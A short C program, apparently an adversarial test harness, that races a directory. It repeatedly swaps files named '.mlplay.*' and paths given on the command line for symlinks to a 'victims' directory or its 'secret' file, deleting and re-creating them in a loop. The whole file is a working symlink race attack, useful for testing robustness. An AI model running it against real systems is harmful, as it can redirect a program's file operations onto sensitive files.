/* Owns a folder and does its worst: whatever appears under the names given, or as a temporary name, is swapped for links. */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **word) {
  const char *home = word[1], *victims = word[2];
  char name[600], aside[600], file[600];
  if (chdir(home) != 0) return 1;
  snprintf(file, sizeof file, "%s/secret", victims);
  for (unsigned long turn = 0;; turn++) {
    DIR *here = opendir(".");
    struct dirent *one;
    while (here != NULL && (one = readdir(here)) != NULL) {
      if (strncmp(one->d_name, ".mlplay.", 8) != 0 || strlen(one->d_name) > 20) continue;
      snprintf(name, sizeof name, "%s", one->d_name);
      snprintf(aside, sizeof aside, "away%lu", turn % 50);
      if (rename(name, aside) == 0 && symlink(turn % 2 ? victims : file, name) == 0 && turn % 3 == 0) {
        unlink(name);
        rename(aside, name);
      }
    }
    if (here != NULL) closedir(here);
    for (int i = 3; i < count; i++) {
      unlink(word[i]);
      rmdir(word[i]);
      symlink((turn + i) % 2 ? victims : file, word[i]);
      if (turn % 4 == 0) {
        unlink(word[i]);
        if (turn % 8 == 0) mkdir(word[i], 0755);
        else {
          FILE *made = fopen(word[i], "w");
          if (made != NULL) fclose(made);
        }
      }
    }
  }
}
